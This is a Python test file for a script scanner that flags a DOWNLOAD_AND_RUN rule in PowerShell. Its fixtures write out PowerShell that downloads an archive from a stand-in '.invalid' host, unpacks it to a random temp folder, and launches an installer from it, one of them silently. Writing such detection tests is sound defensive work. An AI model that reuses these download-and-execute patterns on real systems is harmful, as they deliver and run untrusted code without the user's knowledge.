"""A downloaded archive unpacked by PowerShell into a folder known only at run time (a random name
under ``$env:TEMP``): the variable holding the folder carries the download, so a program started from
a path built from it, or found by listing it (``Get-ChildItem $dir -Filter *.exe``), runs what was
downloaded (DOWNLOAD_AND_RUN). Unpacked data only read stays quiet. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_FETCH = (
    "$work = Join-Path ([IO.Path]::GetTempPath()) ([guid]::NewGuid().ToString('N'))\n"
    "$archive = Join-Path $work 'bundle.zip'\n"
    "$site = 'https://' + (@('get', 'relaykit', 'invalid') -join '.')\n"
    "Invoke-WebRequest -UseBasicParsing -Uri ($site + '/b.zip') -OutFile $archive\n"
)


def test_a_program_found_by_listing_the_unpacked_folder_is_started(tmp_path: Path) -> None:
    script = _FETCH + (
        "[IO.Compression.ZipFile]::ExtractToDirectory($archive, $work)\n"
        "$installer = Get-ChildItem -Path $work -Include '*.msi', '*.exe' -Recurse | Select-Object -First 1\n"
        "Start-Process $installer.FullName -ArgumentList '/quiet' -Wait\n"
    )
    errors = scan_errors(tmp_path, {"scripts/Install-Relay.ps1": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/Install-Relay.ps1", 7) in errors


def test_a_program_at_a_path_built_from_the_unpacked_folder_is_run(tmp_path: Path) -> None:
    script = _FETCH + 'Expand-Archive -LiteralPath $archive -DestinationPath $work\n& "$work\\bin\\agent.exe" -i\n'
    errors = scan_errors(tmp_path, {"scripts/Install-Relay.ps1": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/Install-Relay.ps1", 6) in errors


def test_unpacked_data_read_stays_quiet(tmp_path: Path) -> None:
    script = _FETCH + (
        "Expand-Archive -LiteralPath $archive -DestinationPath $work\n"
        "$rows = Import-Csv (Join-Path $work 'stations.csv')\n"
        "$rows | Measure-Object | Select-Object -ExpandProperty Count\n"
    )
    assert scan_errors(tmp_path, {"scripts/Get-Stations.ps1": script}) == set()
